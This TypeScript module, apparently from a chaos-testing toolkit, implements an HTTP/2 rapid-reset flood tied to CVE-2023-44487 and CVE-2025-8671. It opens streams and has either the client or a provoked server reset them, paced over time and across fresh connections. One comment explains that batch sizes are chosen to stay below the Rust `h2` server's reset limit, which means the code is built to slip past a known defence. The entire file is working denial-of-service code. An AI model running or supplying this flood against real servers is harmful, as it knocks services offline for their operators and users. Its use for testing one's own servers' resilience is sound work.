import { pace } from "../chaos/pace.ts";
import { Http2Connection, type Http2Over } from "./http2_connection.ts";

/** How often streams are opened and reset, in milliseconds. */
const SLICE_MS = 10;
/**
 * How many streams go in one piece. A server of the Rust library `h2` closes a connection on which
 * more than 20 streams are reset before it has looked at them.
 */
const AT_ONCE = 5;
/** The fewest streams on a connection before the next one is opened, in place of waiting for GOAWAY. */
const STREAMS_MAX = 900;

/** A flood of streams that are reset. */
export interface Flood {
  /** Where. */
  readonly url: string;
  /** How HTTP/2 is spoken. Default: cleartext. */
  readonly over?: Http2Over;
  /** How many streams in all. */
  readonly resets: number;
  /** For how long, in seconds. */
  readonly seconds: number;
  /** The side that resets the streams: the client, or the server, which is provoked to. */
  readonly by: "client" | "server";
}

/**
 * Opens streams and has them reset at once, evenly for as long as it is to take (CVE-2023-44487,
 * CVE-2025-8671).
 *
 * @returns How many streams were opened, on how many connections.
 */
export async function floodResets(
  { url, over = "cleartext", resets, seconds, by }: Flood,
): Promise<{ streams: number; connections: number }> {
  const begin = performance.now();
  let streams = 0;
  let connections = 0;
  let client: Http2Connection | undefined;
  let onThis = 0;
  /** Those that the server is made to reset once it has begun to work on them. */
  let begun: number[] = [];
  while (streams < resets || begun.length > 0) {
    for (const stream of begun.splice(0)) client?.provokeReset(stream);
    const due = Math.min(1, (performance.now() - begin) / (seconds * 1000)) * resets;
    while (streams < due) {
      if (client === undefined || client.over || onThis >= STREAMS_MAX) {
        client?.close();
        client = await Http2Connection.open(url, over);
        connections++;
        onThis = 0;
        begun = [];
      }
      for (let i = 0; i < AT_ONCE && streams < due; i++, streams++, onThis++) {
        const stream = client.request();
        if (by === "client") client.reset(stream);
        else begun.push(stream);
      }
      await client.flushed();
    }
    await pace(SLICE_MS);
  }
  client?.close();
  return { streams, connections };
}
